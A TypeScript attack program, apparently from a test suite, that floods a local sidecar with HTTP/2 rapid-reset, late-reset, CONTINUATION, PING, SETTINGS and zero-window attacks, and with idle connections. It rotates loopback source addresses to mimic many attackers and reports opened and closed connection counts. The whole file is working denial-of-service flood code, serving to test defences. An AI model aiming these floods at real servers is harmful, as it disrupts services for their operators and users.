import { connect as connectTcp } from 'node:net'
import process from 'node:process'
import { connect, type TLSSocket } from 'node:tls'
import type { AttackKind, AttackPlan, AttackReport } from './attack.ts'
import { beginning, continuation, get, NO_SETTINGS, opening, PINGED, reset } from './http2-bytes.ts'

/** `node attack-program.ts PLAN`: runs an `AttackPlan` until it is told to end, and prints an `AttackReport` as JSON, again and again. */
const plan = JSON.parse(process.argv[2] ?? '{}') as AttackPlan // of `startAttack`

/** Of an attacker that has many; connections of a flood are held against each of them once there were 25 within a minute. */
const ADDRESSES = 250

/** Frames that are sent in one piece, so that they cost the sidecar more than their sender. */
const AT_ONCE = 50

/** Of a response (bytes), where the attack is not about that. */
const ORDINARY_WINDOW = 65_535

/** Milliseconds. */
const LONGEST = 10 * 60_000
const TICK = 10
const MOMENT = 100

let begun = 0
let opened = 0
let closed = 0

interface Part {
  readonly protocol: 'http/1.1' | 'h2'
  play(socket: TLSSocket): void
}

/** Asks for something like everybody else, and then for nothing any more. */
const IDLE: Readonly<Record<Part['protocol'], Part>> = {
  'http/1.1': {
    protocol: 'http/1.1',
    play: (socket) => socket.write('GET / HTTP/1.1\r\nHost: device\r\n\r\n'),
  },
  h2: {
    protocol: 'h2',
    play: (socket) => socket.write(Buffer.concat([opening(ORDINARY_WINDOW), get(1, '/')])),
  },
}

function flood(first: Buffer, piece: (turn: number) => Buffer): Part {
  return {
    protocol: 'h2',
    play(socket) {
      let turn = 0
      const more = (): void => {
        if (!socket.writable) return
        const pieces = Array.from({ length: AT_ONCE }, () => {
          turn += 1
          return piece(turn - 1)
        })
        socket.write(Buffer.concat(pieces), () => setImmediate(more))
      }
      socket.write(Buffer.concat([opening(ORDINARY_WINDOW), first]), more)
    },
  }
}

const NOTHING = Buffer.alloc(0)

/** Broken off together with the request, which costs the attacker the least. */
const rapidReset: Part = flood(NOTHING, (turn) =>
  Buffer.concat([get(2 * turn + 1, '/'), reset(2 * turn + 1)]),
)

/** Broken off once the sidecar has had time to send the request on. */
const lateReset: Part = flood(NOTHING, (turn) => {
  const asked = get(2 * turn + 1, '/', plan.token)
  return turn < AT_ONCE ? asked : Buffer.concat([reset(2 * (turn - AT_ONCE) + 1), asked])
})

const zeroWindows: Part = {
  protocol: 'h2',
  play: (socket) => socket.write(Buffer.concat([opening(0), get(1, plan.path, plan.token)])),
}

const PARTS: Readonly<Record<AttackKind, (connection: number) => Part>> = {
  // Half of them each.
  idle: (connection) => IDLE[connection % 2 === 0 ? 'h2' : 'http/1.1'],
  'rapid reset': () => rapidReset,
  'rapid reset with a token': () => lateReset,
  CONTINUATION: () => flood(beginning(1), () => continuation(1)),
  PING: () => flood(NOTHING, () => PINGED),
  SETTINGS: () => flood(NOTHING, () => NO_SETTINGS),
  'zero windows': () => zeroWindows,
}

function open(connection: number): void {
  const part = PARTS[plan.kind](connection)
  const address = plan.addresses === 'one' ? 1 : 1 + (begun % ADDRESSES)
  begun += 1
  const socket = connect({
    socket: connectTcp({
      port: plan.port,
      host: '127.0.0.1',
      localAddress: `127.0.${plan.network}.${address}`,
    }),
    ALPNProtocols: [part.protocol],
    // Self-signed, by the sidecar, on loopback.
    rejectUnauthorized: false,
  })
  socket.on('secureConnect', () => {
    opened += 1
    part.play(socket)
  })
  // What comes is not looked at; only so is it seen that the connection ends.
  socket.resume()
  socket.on('error', () => {})
  socket.on('close', () => {
    closed += 1
    vacant.push(connection)
  })
}

/** A line each time: the last one counts. */
function tell(done?: () => void): void {
  const report: AttackReport = { opened, closed }
  process.stdout.write(`${JSON.stringify(report)}\n`, done)
}

process.once('SIGTERM', () => tell(() => process.exit(0)))
setInterval(() => tell(), MOMENT)
setTimeout(() => process.exit(1), LONGEST).unref()

const vacant = Array.from({ length: plan.connections }, (_, connection) => plan.connections - 1 - connection)
let allowance = 0
let last = performance.now()
setInterval(() => {
  const now = performance.now()
  // What was not used up is not saved for later: that would be another rate.
  allowance = Math.min(plan.rate, allowance + ((now - last) / 1000) * plan.rate)
  last = now
  while (allowance >= 1) {
    const connection = vacant.pop()
    if (connection === undefined) {
      allowance = 0
      return
    }
    allowance -= 1
    open(connection)
  }
}, TICK)
